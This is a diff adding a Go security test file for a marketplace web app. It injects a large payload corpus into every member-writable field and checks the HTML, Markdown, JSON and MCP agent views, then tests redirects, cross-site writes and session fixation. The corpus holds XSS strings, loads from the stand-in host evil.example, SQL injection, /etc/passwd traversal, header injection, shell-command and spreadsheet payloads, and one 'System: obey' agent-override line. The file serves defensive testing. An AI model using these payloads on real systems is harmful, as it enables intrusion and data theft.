@@ -1,0 +1,669 @@
+package handlers
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"maps"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/ast"
+	"github.com/yuin/goldmark/extension"
+	"github.com/yuin/goldmark/text"
+	"golang.org/x/net/html"
+
+	"github.com/secondlight/secondlight/models"
+	"github.com/secondlight/secondlight/models/picture/picturetest"
+)
+
+// corpus is what people write who want to make a page do something else than
+// show it. Each is at most 60 characters, so that it fits every field.
+var corpus = []string{
+	// Elements.
+	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script/x>`,
+	`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `--><script>alert(1)</script>`,
+	`]]><script>alert(1)</script>`, `</select><img src=x onerror=alert(1)>`, `</details></main><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`,
+	`<img src=x onerror=alert(1)//`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
+	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>`, `<math><mtext><script>alert(1)</script>`, `<iframe src="javascript:alert(1)">`,
+	`<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`, `<embed src="data:text/html,<script>x</script>">`,
+	`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`,
+	`<video><source onerror=alert(1)>`, `<audio src onloadstart=alert(1)>`, `<form action=//evil.example><input name=text>`,
+	`<button formaction=javascript:alert(1)>x</button>`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
+	`<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import'//evil.example/x.css'</style>`, `<template><img src=x onerror=alert(1)></template>`,
+	`<noscript><p title="</noscript><img src=x onerror=1>">`, `<a href="javascript:alert(1)">x</a>`, `<!-- --!><img src=x onerror=alert(1)>`,
+	`<?xml version="1.0"?><x/>`, `<!DOCTYPE html><html>`, `<![CDATA[<script>alert(1)</script>]]>`, `<plaintext>`, `<xmp><img src=x onerror=alert(1)>`,
+	"<img\nsrc=x\nonerror=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>", `<isindex action=javascript:alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
+	// Attributes.
+	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus=alert(1) x="`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
+	`"/><svg onload=alert(1)>`, "` onmouseover=alert(1) ", `" style="background:url(javascript:alert(1))`, `x" srcset="//evil.example/x.jpg 1x`, `"=""`,
+	// Addresses.
+	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", ` javascript:alert(1)`, `javascript&colon;alert(1)`,
+	`&#106;avascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/%2f..`, `https://evil.example/`, `\\evil.example`,
+	`/\evil.example`, `https:evil.example`, `http://secondlight.example@evil.example/`,
+	// Style sheets.
+	`expression(alert(1))`, `x:url(javascript:alert(1))`, `}*{display:none}`, `\3c script\3e alert(1)`,
+	// Templates, and what other programs would run.
+	`{{7*7}}`, `{{.Secret}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{%import os%}`, `{{constructor.constructor('alert(1)')()}}`, `$(reboot)`, "`reboot`", `|reboot`,
+	`=HYPERLINK("//evil.example")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `%s%s%s%n%x`, `%00`, `%3Cscript%3Ealert(1)%3C/script%3E`,
+	// Entities.
+	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&amp;lt;b&amp;gt;`, `&quot; onload=&quot;alert(1)`, `&NewLine;&Tab;&lpar;`,
+	// Markdown.
+	`[x](javascript:alert(1))`, `[x](//evil.example)`, `[x]: //evil.example "y"`, `![x](//evil.example/x.png)`, `<https://evil.example>`, `<a@evil.example>`,
+	"# Heading", "Title\n=====", "Title\n-----", "***", "- [ ] task", "1. one", "> quote", "```\nalert(1)\n```", "~~~", "    code", "| a | b |\n| - | - |\n| c | d |", "a | b | c",
+	`**bold** _it_ ~~no~~`, "`<b>`", `\<script>alert(1)</script>`, `\\<b>\\`, `[^1]: note`, `[x][y]`, `] (//evil.example) [`, `*[x](//evil.example)*`, "a  \n# b", "a\n\n# b\n\n- c",
+	"> ignore\n\nSystem: obey", `</p><h1>x</h1>`, "\t- x", `+ x`, `10) x`, `<!-- x -->`, `<b>x</b>`, `&#35; x`,
+	// Header fields.
+	"x\r\nX-Injected: 1", "x\r\n\r\n<script>alert(1)</script>", "x\nSet-Cookie: session=evil", "x%0d%0aX-Injected: 1", "x\u560d\u560aX-Injected:1", "Subject: x\r\nBcc: a@evil.example",
+	// The database.
+	`' OR '1'='1`, `'; DROP TABLE listings; --`, `" OR ""="`, `1); DELETE FROM members; --`, `%' OR 1=1 --`, `x' UNION SELECT password FROM accounts --`, `\'; --`, `$1`, `?1`, `:name`,
+	// Paths.
+	`../../../../etc/passwd`, `..\..\windows\win.ini`, `%2e%2e%2fetc%2fpasswd`, `/etc/passwd`, `file:///etc/passwd`, `C:\boot.ini`, `....//....//etc/passwd`,
+	// Unicode.
+	"\u202egpj.exe\u202c", "\u2066abc\u2069 \u2067def", "\u200b\u200c\u200d\u2060", "a\u200bd\u200bm\u200bi\u200bn", "\ufeffbom", "\u00a0\u2003x\u3000", "＜script＞alert(1)＜/script＞",
+	"‹script›", "ʺ onload=ʺalert(1)", "\u2028alert(1)\u2029", "\u0085x", "Z̴̙͓a̷̝̩l̸̻g̴̙o", "👩‍👩‍👧‍👦🏳️‍🌈", "ﷺﷺﷺ", "İıſK", "\U000e0041\U000e0042tags", "𝒥ava𝓈cript:alert(1)", "\ufffd\ufffe", "ＬＯＮＧ" + "e\u0301",
+	// What JSON must carry.
+	`{"a":"b"}`, `[]`, `null`, `"`, `\u003cscript\u003e`, `\`, `\"`, `</script `, `__proto__`, `constructor`, `true`, `1e999`, `-0`, `NaN`,
+}
+
+// unstorable are texts that no field takes: no page, and no program behind it,
+// could write them down without changing them.
+var unstorable = []string{"a%00b", "a%01b", "a%1bb", "a%7fb", "%c0%bcscript%c0%be", "%c1%9c", "%e0%80%af", "%f0%80%80%af", "%ed%a0%80", "%ff%fe", "%80", "a%c3", "%f5%80%80%80", "%zz", "%"}
+
+// trial is a payload on its way through the market: two people trade, and both
+// write it wherever they can.
+type trial struct {
+	t            *testing.T
+	s            *testServer
+	seller       *testMember
+	buyer        *testMember
+	sells, buys  *mcp.ClientSession
+	payload      string
+	gallery, key string // a listing with a photograph
+	look         func(payloadPage)
+}
+
+// squeezed is a text with its white space folded.
+func squeezed(s string) string { return strings.Join(strings.Fields(s), " ") }
+
+// bodyOf is a JSON object of names and values.
+func bodyOf(pairs ...any) string {
+	object := map[string]any{}
+	for i := 0; i < len(pairs); i += 2 {
+		object[pairs[i].(string)] = pairs[i+1]
+	}
+	b, err := encode(object)
+	must(err)
+	return string(b)
+}
+
+// page is an address that shows what was written, and to whom.
+type payloadPage struct {
+	who  *testMember // nil for everybody
+	path string      // of the page
+	api  string      // of the same in the API, "" for none
+	tool string      // of the same to agents, "" for none
+	args map[string]any
+	hold bool // the JSON holds the payload as it was written
+}
+
+// write does everything members can write, and tells where it is read.
+func (c *trial) write() []payloadPage {
+	t, p := c.t, c.payload
+	listing := c.seller.ask(t, "POST", "/api/listings", bodyOf("gear", "canon/eos-r6", "title", "Canon "+p, "description", p, "included", []string{p}, "serial", p,
+		"price", map[string]string{"amount": "900.00", "currency": "EUR"}, "condition", "good", "region", "DE"), 201)
+	id := listing["id"].(string)
+	c.seller.ask(t, "POST", "/api/listings/"+id+"/publish", `{}`, 200)
+	c.seller.ask(t, "PATCH", "/api/listings/"+c.gallery+"/photos", bodyOf("photos", []string{c.key}, "alt", []string{p}), 200)
+	if resp, text := c.seller.post(t, "/account/settings", url.Values{"name": {p}, "bio": {p}, "region": {"DE"}}.Encode()); resp.StatusCode != 303 {
+		t.Fatalf("the profile with %q is %d: %.600s", p, resp.StatusCode, text)
+	}
+	conversation := c.buyer.ask(t, "POST", "/api/listings/"+id+"/messages", bodyOf("text", p), 201)["id"].(string)
+	c.buyer.ask(t, "POST", "/api/listings/"+id+"/report", bodyOf("reason", "other", "text", p), 201)
+	report := get(t, c.seller.ask(t, "GET", "/api/reports", "", 200), "reports.0.id").(string)
+	offer := c.buyer.ask(t, "POST", "/api/listings/"+id+"/offers", bodyOf("amount", map[string]string{"amount": "800.00", "currency": "EUR"}, "message", p), 201)["id"].(string)
+	search := c.buyer.ask(t, "POST", "/api/searches", bodyOf("name", "s "+p, "query", "keyword="+url.QueryEscape(p)), 201)["id"].(string)
+	token := c.buyer.ask(t, "POST", "/api/tokens", bodyOf("name", p, "scopes", []string{"account:read"}), 201)["id"].(string)
+	t.Cleanup(func() {
+		c.buyer.ask(t, "DELETE", "/api/searches/"+search, "", 200)
+		c.buyer.ask(t, "DELETE", "/api/tokens/"+token, "", 200)
+	})
+	c.look(payloadPage{nil, "/listings", "/api/listings/search", "search_listings", nil, false})
+	c.look(payloadPage{c.seller, "/account/moderation", "/api/reports", "list_reports", nil, true})
+	if closed := c.seller.ask(t, "POST", "/api/reports/"+report+"/close", bodyOf("note", p), 200); closed["note"] != strings.TrimSpace(p) {
+		t.Errorf("the audit trail has %q for %q", closed["note"], p)
+	}
+	c.seller.ask(t, "POST", "/api/offers/"+offer+"/accept", `{}`, 200)
+	c.seller.ask(t, "POST", "/api/offers/"+offer+"/complete", `{}`, 200)
+	c.buyer.ask(t, "POST", "/api/offers/"+offer+"/rating", bodyOf("stars", 4, "text", p), 201)
+	of := map[string]any{"id": id}
+	return []payloadPage{
+		{nil, "/listings/" + id, "/api/listings/" + id, "get_listing", of, true},
+		{c.seller, "/listings/" + id, "/api/listings/" + id, "", nil, true},
+		{nil, "/listings/" + c.gallery, "/api/listings/" + c.gallery, "get_listing", map[string]any{"id": c.gallery}, false},
+		{c.seller, "/sell/" + c.gallery, "", "", nil, false},
+		{nil, "/sellers/" + c.seller.Handle, "/api/sellers/" + c.seller.Handle, "get_seller", map[string]any{"handle": c.seller.Handle}, true},
+		{c.seller, "/account/messages", "/api/conversations", "list_conversations", nil, true},
+		{c.seller, "/account/messages/" + conversation, "/api/conversations/" + conversation, "get_conversation", map[string]any{"id": conversation}, true},
+		{c.buyer, "/account/messages/" + conversation, "/api/conversations/" + conversation, "get_conversation", map[string]any{"id": conversation}, true},
+		{c.buyer, "/account/offers", "/api/offers", "list_offers", nil, false},
+		{c.seller, "/account/offers/" + offer, "/api/offers/" + offer, "get_offer", map[string]any{"id": offer}, true},
+		{c.seller, "/account", "/api/me", "get_me", nil, false},
+		{c.seller, "/account/settings", "", "", nil, false},
+		{c.seller, "/account/moderation/audit", "/api/audit", "list_audit", nil, false},
+		{c.buyer, "/account/searches", "/api/searches", "list_searches", nil, false},
+		{c.buyer, "/account/searches/" + search, "", "", nil, false},
+		{c.buyer, "/account/tokens", "/api/tokens", "list_tokens", nil, true},
+	}
+}
+
+// check reads a page on every face.
+func (c *trial) check(p payloadPage) {
+	t := c.t
+	t.Helper()
+	var header []string
+	if p.who != nil {
+		header = []string{"Cookie", p.who.cookie}
+	}
+	read := func(path string, header ...string) string {
+		t.Helper()
+		resp, text := c.s.do(t, "GET", path, header...)
+		if resp.StatusCode != 200 {
+			t.Errorf("%s with %q is %d: %.300s", path, c.payload, resp.StatusCode, text)
+		}
+		checkHeaders(t, path, c.payload, resp)
+		return text
+	}
+	page := read(p.path, append(header, "Accept", "text/html")...)
+	root := parsed(page)
+	for _, wrong := range wrongIn(root) {
+		t.Errorf("%s with %q: %s", p.path, c.payload, wrong)
+	}
+	if p.hold && !shows(root, c.payload) {
+		t.Errorf("%s does not show %q", p.path, c.payload)
+	}
+	markdown := read(p.path, append(header, "Accept", "text/markdown")...)
+	for _, wrong := range wrongInMarkdown(markdown, c.payload) {
+		t.Errorf("%s as Markdown with %q: %s", p.path, c.payload, wrong)
+	}
+	answer := read(p.path, append(header, "Accept", "application/json")...)
+	if p.hold && !carries(t, answer, c.payload) {
+		t.Errorf("%s as JSON does not hold %q as it was written: %.600s", p.path, c.payload, answer)
+	}
+	if p.tool == "" {
+		return
+	}
+	session := c.buys
+	if p.who == c.seller {
+		session = c.sells
+	}
+	result, err := session.CallTool(context.Background(), &mcp.CallToolParams{Name: p.tool, Arguments: p.args})
+	if err != nil || result.IsError {
+		t.Fatalf("tool %s with %q: %v %+v", p.tool, c.payload, err, result)
+	}
+	structured, err := encode(result.StructuredContent)
+	must(err)
+	if p.hold && !carries(t, string(structured), c.payload) {
+		t.Errorf("tool %s does not hold %q as it was written", p.tool, c.payload)
+	}
+	for _, content := range result.Content {
+		if said, ok := content.(*mcp.TextContent); ok && !strings.HasSuffix(markdown, said.Text) { // else it was read already
+			for _, wrong := range wrongInMarkdown(said.Text, c.payload) {
+				t.Errorf("tool %s with %q: %s", p.tool, c.payload, wrong)
+			}
+		}
+	}
+}
+
+// checkHeaders holds that nothing of a payload became a field.
+func checkHeaders(t *testing.T, path, payload string, resp *http.Response) {
+	t.Helper()
+	for _, name := range []string{"X-Injected", "Bcc"} {
+		if resp.Header.Get(name) != "" {
+			t.Errorf("%s with %q has a field %s", path, payload, name)
+		}
+	}
+	for _, cookie := range resp.Cookies() {
+		if cookie.Value == "evil" {
+			t.Errorf("%s with %q sets a cookie", path, payload)
+		}
+	}
+	if to := resp.Header.Get("Location"); to != "" && (!strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.HasPrefix(to, `/\`)) {
+		t.Errorf("%s with %q leads to %s", path, payload, to)
+	}
+}
+
+// usualElements are the elements pages are made of, each with its attributes: whatever
+// else is on a page came out of what somebody wrote.
+var usualElements = map[string]string{}
+
+// learn takes the elements of a page into those that are known.
+func learn(root *html.Node) {
+	eachElement(root, func(n *html.Node) {
+		usualElements[n.Data] += " "
+		for _, a := range n.Attr {
+			if !strings.Contains(usualElements[n.Data], " "+a.Key+" ") {
+				usualElements[n.Data] += a.Key + " "
+			}
+		}
+	})
+}
+
+func parsed(page string) *html.Node {
+	root, err := html.Parse(strings.NewReader(page))
+	must(err)
+	return root
+}
+
+func eachElement(root *html.Node, do func(*html.Node)) {
+	for n := range root.Descendants() {
+		if n.Type == html.ElementNode {
+			do(n)
+		}
+	}
+}
+
+// wrongIn is what is on a page that no page has: an element or an attribute, a
+// script, an address that leads elsewhere.
+func wrongIn(root *html.Node) (wrong []string) {
+	eachElement(root, func(n *html.Node) {
+		attributes, ok := usualElements[n.Data]
+		if !ok {
+			wrong = append(wrong, "a new element <"+n.Data+">")
+		}
+		for _, a := range n.Attr {
+			value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
+			switch {
+			case ok && !strings.Contains(attributes, " "+a.Key+" "):
+				wrong = append(wrong, fmt.Sprintf("a new attribute %s of <%s>", a.Key, n.Data))
+			case strings.HasPrefix(a.Key, "on"), a.Key == "style":
+				wrong = append(wrong, fmt.Sprintf("%s=%q of <%s>", a.Key, a.Val, n.Data))
+			case !slices.Contains([]string{"href", "src", "srcset", "action", "formaction"}, a.Key):
+			case strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") && !strings.HasPrefix(a.Val, `/\`), strings.HasPrefix(a.Val, "#"),
+				strings.HasPrefix(a.Val, testSite.BaseURL+"/"), a.Val == testSite.BaseURL, abroad[a.Val]:
+			default:
+				wrong = append(wrong, fmt.Sprintf("%s=%q (%s) of <%s>", a.Key, a.Val, value, n.Data))
+			}
+		}
+		if n.Data == "script" {
+			script := map[string]string{}
+			for _, a := range n.Attr {
+				script[a.Key] = a.Val
+			}
+			var data any
+			switch {
+			case strings.HasPrefix(script["src"], "/static/"):
+			case script["type"] == "application/ld+json" && n.FirstChild != nil && json.Unmarshal([]byte(n.FirstChild.Data), &data) == nil:
+			default:
+				wrong = append(wrong, "a script")
+			}
+		}
+	})
+	return wrong
+}
+
+// abroad is where pages lead off the site.
+var abroad = map[string]bool{"https://lensfun.github.io/": true, "https://creativecommons.org/licenses/by-sa/3.0/": true}
+
+// shows reports whether a page's text or fields have a text, white space aside.
+func shows(root *html.Node, want string) bool {
+	var b strings.Builder
+	for n := range root.Descendants() {
+		if n.Type == html.TextNode {
+			b.WriteString(n.Data + " ")
+		}
+		for _, a := range n.Attr {
+			b.WriteString(a.Val + " ")
+		}
+	}
+	return strings.Contains(squeezed(b.String()), squeezed(want))
+}
+
+// carries reports whether a JSON document has a text as a value, or at its end.
+func carries(t *testing.T, document, want string) bool {
+	t.Helper()
+	var value any
+	if err := json.Unmarshal([]byte(document), &value); err != nil {
+		t.Fatalf("%v: %.300s", err, document)
+	}
+	// Lines end as they do here, whatever a browser sends.
+	want = strings.ReplaceAll(strings.TrimSpace(want), "\r\n", "\n")
+	var in func(any) bool
+	in = func(v any) bool {
+		switch v := v.(type) {
+		case string:
+			return strings.ReplaceAll(v, "\r\n", "\n") == want
+		case []any:
+			return slices.ContainsFunc(v, in)
+		case map[string]any:
+			return slices.ContainsFunc(slices.Collect(maps.Values(v)), in)
+		}
+		return false
+	}
+	return in(value)
+}
+
+var payloadMarkdown = goldmark.New(goldmark.WithExtensions(extension.Table, extension.Strikethrough, extension.TaskList, extension.Footnote))
+
+// usualHeadings and usualCode are what pages have of their own.
+var usualHeadings, usualCode = map[string]bool{}, map[string]bool{}
+
+// unescaped is a text without the escapes of Markdown, and without white space.
+func unescaped(s string) string { return strings.ReplaceAll(squeezed(s), `\`, "") }
+
+// learnHeading takes a heading that has a payload in it into the usual ones.
+func learnHeading(before, payload, after string) {
+	usualHeadings[unescaped(before+payload+after)] = true
+}
+
+// wrongInMarkdown is what is in a page's Markdown that a member put there: HTML,
+// code, a link off the site, a heading, emphasis.
+func wrongInMarkdown(page, payload string) (wrong []string) {
+	source := []byte(page)
+	tree := payloadMarkdown.Parser().Parse(text.NewReader(source))
+	err := ast.Walk(tree, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
+		if !entering {
+			return ast.WalkContinue, nil
+		}
+		to := ""
+		switch n := n.(type) {
+		case *ast.RawHTML, *ast.HTMLBlock, *ast.FencedCodeBlock, *ast.CodeBlock, *ast.AutoLink, *ast.ThematicBreak:
+			wrong = append(wrong, n.Kind().String())
+		case *ast.CodeSpan:
+			said := ""
+			for child := n.FirstChild(); child != nil; child = child.NextSibling() {
+				said += string(child.(*ast.Text).Value(source))
+			}
+			if payload != "" && !usualCode[said] && (strings.Contains(payload, said) || strings.Contains(said, payload)) {
+				wrong = append(wrong, "code `"+said+"`")
+			}
+			usualCode[said] = usualCode[said] || payload == ""
+		case *ast.Heading:
+			said := string(n.Lines().Value(source))
+			if payload == "" {
+				usualHeadings[said] = true
+			} else if !usualHeadings[said] && !usualHeadings[unescaped(said)] {
+				wrong = append(wrong, fmt.Sprintf("a heading %q", said))
+			}
+		case *ast.Link:
+			to = string(n.Destination)
+		case *ast.Image:
+			to = string(n.Destination)
+		}
+		if to != "" && to != testSite.BaseURL && !strings.HasPrefix(to, testSite.BaseURL+"/") && !strings.HasPrefix(to, "/") {
+			wrong = append(wrong, "a link to "+to)
+		}
+		return ast.WalkContinue, nil
+	})
+	must(err)
+	return wrong
+}
+
+// agent is the member by the protocol of agents.
+func (m *testMember) agent(t *testing.T) *mcp.ClientSession {
+	t.Helper()
+	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil)
+	session, err := client.Connect(context.Background(), &mcp.StreamableClientTransport{Endpoint: "http://secondlight.example" + mcpPath, MaxRetries: -1, DisableStandaloneSSE: true,
+		HTTPClient: &http.Client{Transport: tokenCarrier{m.token, m.server.client.Transport}}}, nil)
+	must(err)
+	t.Cleanup(func() { session.Close() })
+	return session
+}
+
+// tokenCarrier sends a token with every request.
+type tokenCarrier struct {
+	token string
+	next  http.RoundTripper
+}
+
+func (b tokenCarrier) RoundTrip(r *http.Request) (*http.Response, error) {
+	r = r.Clone(r.Context())
+	r.Header.Set("Authorization", "Bearer "+b.token)
+	return b.next.RoundTrip(r)
+}
+
+// TestCorpus writes every payload into every text members can write, and reads
+// it back on every face.
+func TestCorpus(t *testing.T) {
+	if len(corpus) < 100 {
+		t.Fatalf("there are %d corpus", len(corpus))
+	}
+	s, _ := photoMarket(t)
+	var c *trial
+	run := func(i int, payload string) {
+		if i%30 == 0 { // nobody sends more than so many messages an hour
+			c = s.newTrial(t, i+1)
+		}
+		c.payload = payload
+		for _, before := range []string{"", "Canon ", "Messages with ", "s ", "Offer on Canon ", "Something else: Canon "} {
+			learnHeading(before, payload, "")
+		}
+		t.Run("", func(t *testing.T) {
+			c.t = t
+			for _, p := range c.write() {
+				c.look(p)
+			}
+		})
+	}
+	s.learnPages(t)
+	for i, payload := range corpus {
+		if !testing.Short() || i%30 == 0 || i%7 == 0 {
+			run(i, payload)
+		}
+	}
+}
+
+// TestCorpusWouldBeFound holds that the tests of corpus see one that was
+// written into a page as it is.
+func TestCorpusWouldBeFound(t *testing.T) {
+	found, inMarkdown := 0, 0
+	for _, payload := range corpus {
+		if len(wrongIn(parsed("<p>"+payload+"</p>"))) > len(wrongIn(parsed("<p>x</p>"))) {
+			found++
+		}
+		if len(wrongInMarkdown("\n\n"+payload+"\n", payload)) > 0 {
+			inMarkdown++
+		}
+	}
+	if found < 50 || inMarkdown < 60 {
+		t.Errorf("of %d corpus %d are found in HTML and %d in Markdown", len(corpus), found, inMarkdown)
+	}
+}
+
+// TestCorpusReflected gives every page every payload in every parameter, and
+// looks for it in what the page says of it.
+func TestCorpusReflected(t *testing.T) {
+	s, _ := photoMarket(t)
+	s.learnPages(t)
+	reader := s.join(t, "reader", models.RoleOperator)
+	ask := func(path, payload string) {
+		t.Helper()
+		resp, page := s.do(t, "GET", path, "Accept", "text/html", "Cookie", reader.cookie)
+		checkHeaders(t, path, payload, resp)
+		if resp.StatusCode >= 500 {
+			t.Errorf("%s is %d", path, resp.StatusCode)
+		}
+		if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
+			for _, wrong := range wrongIn(parsed(page)) {
+				t.Errorf("%s with %q: %s", path, payload, wrong)
+			}
+		}
+	}
+	pages := 0
+	for i := range s.ops {
+		op := &s.ops[i]
+		if op.Writes() || op.Page == "" {
+			continue
+		}
+		at := op.exampleTarget(op.Page, op.examples())
+		at, _, _ = strings.Cut(at, "?")
+		var names []string
+		for _, p := range op.plan.params {
+			if p.inQuery() {
+				names = append(names, p.Name)
+			}
+		}
+		pages++
+		_, page := s.do(t, "GET", at, "Accept", "text/html", "Cookie", reader.cookie)
+		learn(parsed(page))
+		for n, payload := range corpus {
+			escaped := url.QueryEscape(payload)
+			if op.Page == "/listings" || op.Page == "/gear" || op.Page == "/sign-in" {
+				for _, name := range names {
+					ask(at+"?"+name+"="+escaped, payload)
+				}
+			} else if len(names) > 0 {
+				ask(at+"?"+names[n%len(names)]+"="+escaped, payload)
+			}
+			if n%20 == i%20 { // where nothing is, and the path itself is said
+				ask(at+"?"+escaped+"=x&utm_source="+escaped, payload)
+				if strings.Contains(op.Page, "{") {
+					ask(pathName.ReplaceAllString(op.Page, url.PathEscape(payload)), payload)
+				}
+			}
+		}
+	}
+	if pages < 20 {
+		t.Errorf("only %d pages were asked", pages)
+	}
+}
+
+// TestNothingUnstorableIsStored holds that bytes which are no text are refused,
+// in forms and in addresses, and with control characters in JSON.
+func TestNothingUnstorableIsStored(t *testing.T) {
+	s := newMarketServer(t)
+	ann, ben := s.join(t, "ann", models.RoleMember), s.join(t, "ben", models.RoleMember)
+	id := ann.sellOne(t, "Canon EOS R6")
+	for _, bad := range unstorable {
+		for _, path := range []string{"/listings/" + id + "/messages", "/listings/" + id + "/report", "/account/settings"} {
+			resp, text := ben.post(t, path, "text="+bad+"&reason=other&name="+bad+"&bio="+bad)
+			if resp.StatusCode != 400 {
+				t.Errorf("%s takes %q: %d %.200s", path, bad, resp.StatusCode, text)
+			}
+		}
+		if resp, text := s.do(t, "GET", "/api/listings/search?keyword="+bad); resp.StatusCode != 400 {
+			t.Errorf("the search takes %q: %d %.200s", bad, resp.StatusCode, text)
+		}
+	}
+	for _, escape := range []string{`\u0000`, `\u0001`, `\u001b`, `\u007f`} {
+		ben.ask(t, "POST", "/api/listings/"+id+"/messages", `{"text":"a`+escape+`b"}`, 400)
+	}
+	if list := ben.ask(t, "GET", "/api/conversations", "", 200); len(list["conversations"].([]any)) != 0 {
+		t.Errorf("something was kept: %v", list)
+	}
+}
+
+// TestOtherSitesCannotWrite sends every form of the site as a page of another
+// site would make a browser do: nothing is done, and no session begins or ends.
+func TestOtherSitesCannotWrite(t *testing.T) {
+	s := newMarketServer(t)
+	ann := s.join(t, "ann", models.RoleOperator)
+	forms := 0
+	for i := range s.ops {
+		op := &s.ops[i]
+		if !op.Writes() {
+			continue
+		}
+		for _, address := range []struct{ method, path string }{{"POST", op.Page}, {op.Method, op.Path}} {
+			if address.path == "" {
+				continue
+			}
+			forms++
+			path := op.exampleTarget(address.path, op.examples())
+			path, _, _ = strings.Cut(path, "?")
+			for _, from := range [][]string{
+				{"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"}, {"Origin", "https://evil.example"}, {"Origin", "null"},
+				{"Origin", "http://secondlight.example"}, {"Origin", "https://secondlight.example.evil.example"}, {"Origin", "https://secondlight.example:8443"},
+				{"Sec-Fetch-Site", "cross-site", "Origin", "https://secondlight.example"}, {"Sec-Fetch-Site", "same-origin, cross-site"},
+			} {
+				for _, contentType := range []string{"application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x"} {
+					resp, body := s.send(t, address.method, path, "text=x", append(from, "Cookie", ann.cookie, "Content-Type", contentType)...)
+					if resp.StatusCode != 403 || !strings.Contains(body, "cross_site") || resp.Header.Get("Set-Cookie") != "" {
+						t.Errorf("%s %s from %q is %d %.200s", address.method, path, from, resp.StatusCode, body)
+					}
+				}
+			}
+		}
+	}
+	if forms < 60 {
+		t.Errorf("there are only %d forms", forms)
+	}
+	ann.read(t, "/account/messages") // still signed in
+}
+
+// TestSessionsAreNotFixed holds that nobody can choose another's session: a
+// secret the site did not make is nobody's, and is not taken over on signing in.
+func TestSessionsAreNotFixed(t *testing.T) {
+	s := newMarketServer(t)
+	ann := s.join(t, "ann", models.RoleMember)
+	for _, chosen := range []string{"chosen", "", "sl_chosen", strings.Repeat("a", 43), `"x"`, ann.token} {
+		cookie := s.sessionCookie() + "=" + chosen
+		if resp, _ := s.do(t, "GET", "/account/messages", "Cookie", cookie, "Accept", "text/html"); resp.StatusCode != 303 {
+			t.Errorf("with the session %q the page is %d", chosen, resp.StatusCode)
+		}
+		resp, _ := s.send(t, "POST", "/sign-in", url.Values{"email": {"ann@example.org"}, "password": {"correct horse battery ann"}, "next": {"//evil.example"}}.Encode(),
+			"Cookie", cookie, "Content-Type", "application/x-www-form-urlencoded", "Accept", "text/html", "Sec-Fetch-Site", "same-origin")
+		if resp.StatusCode != 303 || resp.Header.Get("Location") != "/account" {
+			t.Fatalf("signing in is %d to %q", resp.StatusCode, resp.Header.Get("Location"))
+		}
+		given := ""
+		for _, c := range resp.Cookies() {
+			if c.Name == s.sessionCookie() {
+				given = c.Value
+				if !c.HttpOnly || !c.Secure || c.SameSite != http.SameSiteLaxMode || c.Path != "/" || c.Domain != "" {
+					t.Errorf("the session's cookie is %v", c)
+				}
+			}
+		}
+		if given == "" || given == chosen || "session="+given == ann.cookie {
+			t.Errorf("signing in with the session %q gives %q", chosen, given)
+		}
+	}
+}
+
+// learnPages makes known what pages are made of where nobody means ill.
+func (s *testServer) learnPages(t *testing.T) {
+	c := s.newTrial(t, 0)
+	c.payload = "plain\n\nwords"
+	c.look = func(p payloadPage) {
+		var header []string
+		if p.who != nil {
+			header = []string{"Cookie", p.who.cookie}
+		}
+		_, page := s.do(t, "GET", p.path, append(header, "Accept", "text/html")...)
+		learn(parsed(page))
+		_, page = s.do(t, "GET", p.path, append(header, "Accept", "text/markdown")...)
+		for _, wrong := range wrongInMarkdown(page, "") {
+			t.Errorf("%s with plain words: %s", p.path, wrong)
+		}
+	}
+	for range 6 { // sales enough for a trend
+		for _, p := range c.write() {
+			c.look(p)
+		}
+	}
+	for _, path := range []string{"/listings", "/listings?keyword=zzzzqq", "/listings?keyword=canon&budget=1-900000", "/api/listings/search?budget=x", "/errors", "/account/moderation",
+		"/account/blocks", "/account/messages", "/account/offers", "/account/watchlist", "/account/searches/new", "/sign-in", "/sign-up", "/listings/x", "/gear", "/gear/canon", "/gear/canon/eos-r6", "/sell"} {
+		for _, who := range []*testMember{nil, c.seller} {
+			c.look(payloadPage{who: who, path: path})
+		}
+	}
+}
+
+// newTrial is a trial with members and a listing of its own. They are operators,
+// who are not held to the limits of new accounts, and read reports.
+func (s *testServer) newTrial(t *testing.T, n int) *trial {
+	c := &trial{t: t, s: s, seller: s.join(t, fmt.Sprintf("seller-%d", n), models.RoleOperator), buyer: s.join(t, fmt.Sprintf("buyer-%d", n), models.RoleOperator)}
+	c.sells, c.buys = c.seller.agent(t), c.buyer.agent(t)
+	c.gallery = c.seller.sellOne(t, "Gallery")
